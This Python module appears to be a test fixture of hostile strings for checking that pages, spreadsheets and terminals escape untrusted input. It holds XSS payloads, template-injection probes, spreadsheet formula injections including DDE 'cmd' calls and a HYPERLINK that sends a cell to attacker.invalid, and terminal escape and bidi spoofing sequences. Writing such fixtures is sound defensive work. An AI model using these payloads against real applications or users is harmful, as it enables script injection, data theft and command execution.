"""Strings that would do harm if a page, a spreadsheet or a terminal took them for its own."""

MARK = "data-pwned"
"""Attribute of the page's root that every script here would set."""
DO = f"document.documentElement.setAttribute('{MARK}','1')"

HTML = (
    f"<script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"</title></style></textarea></noscript></template><script>{DO}</script>",
    f'<img src=x onerror="{DO}">',
    f'"><img src=x onerror={DO}>',
    f"'><svg onload={DO}>",
    f'<svg><script>{DO}</script></svg><animate onbegin="{DO}">',
    f'<math><mtext></form><mglyph><style></math><img src onerror="{DO}">',
    f'<details open ontoggle="{DO}">',
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f'<a href="javascript:{DO}">an innocent link</a>',
    f"<body onload={DO}><input autofocus onfocus={DO}>",
    f"<!--<script>--><script>{DO}</script>",
    f"]]><script>{DO}</script><![CDATA[",
    f"\u2028</script>\u2029<script>{DO}</script>",
    '<base href="https://attacker.invalid/"><link rel=stylesheet href=//attacker.invalid/x.css>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    "<style>*{background:url(https://attacker.invalid/x)}</style>",
)
TEMPLATE = (
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%{x} %{text} %{customdata[0]}<extra></extra>",
    r"$\frac{1}{0}$ and $x^{2$",
)
FORMULA = (
    '=HYPERLINK("https://attacker.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "\uff1d1+1",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07 cleared",
    "\x1b]8;;https://attacker.invalid\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m red by a C1 control",
    "safe \u202egnp.exe\u202c name",
    "\u2066\u2067\u2068 isolates \u2069",
    "back\x08\x08\x08\x08space \r return",
    "[bold red]markup[/] [link=https://attacker.invalid]click[/link]",
)
EVERY = HTML + TEMPLATE + FORMULA + TERMINAL
